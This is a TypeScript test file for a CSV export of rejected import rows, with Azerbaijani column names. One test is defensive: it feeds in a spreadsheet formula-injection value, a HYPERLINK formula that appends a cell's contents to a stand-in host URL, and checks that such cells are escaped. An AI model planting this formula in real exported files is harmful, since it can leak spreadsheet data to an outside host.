import { describe, expect, it } from 'vitest';
import { readImportFile } from './readImportFile';
import { rejectedRowsCsv } from './rejectedRowsCsv';

describe('rejectedRowsCsv', () => {
  it('writes the file’s columns, the row number and the reason, and reads back as the same table', async () => {
    const bytes = rejectedRowsCsv({
      headers: ['Ad', 'Ölkə', 'Tarix'],
      rows: [
        {
          rowNumber: 3,
          cells: ['Bakı; forum', 'Atlantis', '31.02.2016'],
          reason: 'Ölkə: “Atlantis” tanınmır; Tarix: belə tarix yoxdur',
        },
        { rowNumber: 7, cells: ['"Quoted" name', null, 2016], reason: 'Növ: boşdur' },
      ],
      rowHeader: 'Sətir',
      reasonHeader: 'Səbəb',
      delimiter: ';',
    });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const file = await readImportFile('rejected.csv', bytes);
    expect(file.tables[0]?.headers).toEqual(['Ad', 'Ölkə', 'Tarix', 'Sətir', 'Səbəb']);
    expect(file.tables[0]?.rows.map((row) => row.cells)).toEqual([
      [
        'Bakı; forum',
        'Atlantis',
        '31.02.2016',
        '3',
        'Ölkə: “Atlantis” tanınmır; Tarix: belə tarix yoxdur',
      ],
      ['"Quoted" name', '', '2016', '7', 'Növ: boşdur'],
    ]);
  });

  it('neutralizes cells a spreadsheet would run, and the import reads them back as they were', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Open")', '+994 12 562 37 02', '@SUM(1)'];
    const bytes = rejectedRowsCsv({
      headers: ['=Ad', 'Telefon', 'Qeyd'],
      rows: [{ rowNumber: 2, cells: hostile, reason: '-Növ: boşdur' }],
      rowHeader: 'Sətir',
      reasonHeader: 'Səbəb',
      delimiter: ',',
    });
    const text = new TextDecoder().decode(bytes);
    // What Excel would see: every such cell starts with an apostrophe, none with = + - @.
    const fields = text.split(/[,\r\n]+/).map((field) => field.replace(/^"/, ''));
    expect(fields.filter((field) => /^[=+\-@]/.test(field))).toEqual([]);
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1`);
    const file = await readImportFile('rejected.csv', bytes);
    expect(file.tables[0]?.headers).toEqual(['=Ad', 'Telefon', 'Qeyd', 'Sətir', 'Səbəb']);
    expect(file.tables[0]?.rows[0]?.cells).toEqual([...hostile, '2', '-Növ: boşdur']);
  });
});
